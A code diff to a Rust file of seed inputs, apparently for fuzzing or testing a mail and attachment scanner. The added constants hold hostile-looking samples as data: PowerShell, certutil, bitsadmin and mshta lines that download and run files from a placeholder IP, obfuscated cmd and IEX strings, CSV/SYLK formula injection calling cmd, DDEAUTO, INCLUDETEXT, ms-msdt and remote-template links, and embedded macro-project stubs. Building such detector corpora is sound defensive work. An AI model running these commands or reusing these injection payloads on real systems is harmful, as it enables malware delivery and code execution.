@@ -22,16 +22,21 @@ pub fn of(name: &str) -> Vec<Vec<u8>> {
     match name {
         "arj" => packed("arj"),
         "cab" => packed("cab"),
+        "cells" => kinds(CELLS, 4),
         "cfb" => compound_files(),
         "cms" => signed(),
         "compress" => packed("gz").into_iter().chain(streams()).collect(),
+        "commands" => kinds(COMMANDS, 4),
         "config" => configurations(),
         "encryption" => encrypted(),
         "entry" => entries(),
         "excel4" => macro_sheets(),
         "file" => named_files(),
+        "flat" => kinds(FLAT, 3),
         "header" => messages().into_iter().chain(fields()).collect(),
+        "links" => LINKS.iter().map(|link| link.as_bytes().to_vec()).collect(),
         "message" | "mime" => messages(),
+        "metafile" => vec![DRAWN.to_vec(), objects_drawn()],
         "lzh" => packed("lzh"),
         "markup" => pages(),
         "milter_codec" | "milter_session" => milter_dialogs(),
@@ -44,6 +49,8 @@ pub fn of(name: &str) -> Vec<Vec<u8>> {
             .to_vec(),
         "smtp_next_hop" => next_hops(),
         "smtp_session" | "smtp_wire" => smtp_dialogs(),
+        "signed_code" => signatures(),
+        "strings" => vec![b"\x13\x09\0\x02\0\0\0a\0b\0".to_vec(), DDE_LINK.to_vec()],
         "tnef" => items(),
         "uu" => coded(),
         "sevenz" => sevenz::kinds(),
@@ -55,6 +62,65 @@ pub fn of(name: &str) -> Vec<Vec<u8>> {
         "zip" => archives(),
         _ => Vec::new(),
     }
+}
+
+/// Texts behind the octet of their kind, by turns.
+fn kinds(texts: &[&str], count: u8) -> Vec<Vec<u8>> {
+    (0..count).cycle().zip(texts).map(|(kind, text)| [&[kind], text.as_bytes()].concat()).collect()
+}
+
+/// As it is, for `cmd`, for PowerShell, for PowerShell in Base64.
+const COMMANDS: &[&str] = &[
+    "mshta \"http://203.0.113.9/a\" & rundll32 a.dll,b",
+    "set a=p^o&&set b=wer&&call %a%%b:~0,2%shell -w 1 & for %i in (a b) do echo !%i! | cmd",
+    "IEX ('{1}{0}' -f 'b','a').Replace('a',[char]65) -join ('x'*2) -bxor 3",
+    "(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/a','a.exe');Start-Process a.exe",
+    "certutil -urlcache -f http://203.0.113.9/a a.exe & bitsadmin /transfer a http://203.0.113.9/b c.dll",
+    "for /f \"tokens=1,2\" %a in ('echo x y') do (set c=%a%b) & if not defined d (echo 1) else echo 2",
+    "$a=@(1,2);[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))[0..1]",
+    "[IO.Compression.DeflateStream][IO.MemoryStream]",
+];
+/// CSV, SYLK, a query, a page of cells.
+const CELLS: &[&str] = &[
+    "a,b\n=cmd|'/c calc'!A1,\"=1+1\"\n",
+    "X1;Y1;K0;E=MSEXCEL|'x'!A1\nE\n",
+    "http://203.0.113.9/a?[\"x\"]\nSelection=1\n",
+    "=cmd|' /c x'!A</td></tr></table></html>",
+];
+/// Word 2003, a package in one file, a web archive.
+const FLAT: &[&str] = &[
+    "<w:docSuppData><w:binData w:name=\"editdata.mso\">QWN0aXZlTWltZQ==</w:binData></w:docSuppData></w:wordDocument>",
+    "<pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>0M8R4KGxGuE=</pkg:binaryData></pkg:part></pkg:package>",
+    "Content-Location: editdata.mso\nContent-Transfer-Encoding: base64\n\nQWN0aXZlTWltZQ==\n--b--\n",
+];
+/// Targets and fields.
+const LINKS: &[&str] = &[
+    "http://203.0.113.9/a.dotm",
+    "\\\\203.0.113.9@SSL@8080\\DavWWWRoot\\a",
+    "mhtml:http://a.example/x!x-usc:http://b.example/y",
+    "ms-msdt:/id PCWDiagnostic /param \"x\"",
+    "INCLUDETEXT \"http://203.0.113.9/a\" \\* MERGEFORMAT",
+    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k x\"",
+    "file:///C:/Users/a/AppData/%52oaming/x.dot",
+];
+/// Records of text: wide, narrow, small, the end.
+const DRAWN: &[u8] = b"\x01aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\x04\0\0\x02bcde";
+/// A supporting book that is a link by DDE.
+const DDE_LINK: &[u8] = b"\xe8\x02\x14\x01\0\x03\0\0\0c\0m\0d\0\x01\0\0\0x\0";
+
+/// A record of drawn text as programs write it.
+fn objects_drawn() -> Vec<u8> {
+    let mut record = vec![0; 36];
+    record.extend([2_u32, 76, 0, 0, 0, 0, 0, 0].map(u32::to_le_bytes).concat());
+    [&[1], record.as_slice(), b"E\0n\0"].concat()
+}
+
+/// The signature that the tests have, whole and cut.
+fn signatures() -> Vec<Vec<u8>> {
+    const SIGNATURE: &str = include_str!("../common/signature.base64");
+    let whole = BASE64_MIME_PERMISSIVE.decode(SIGNATURE.as_bytes()).unwrap();
+    let half = whole[..whole.len() / 2].to_vec();
+    vec![whole, half]
 }
 
 /// Outlook's containers, behind their signature and key.
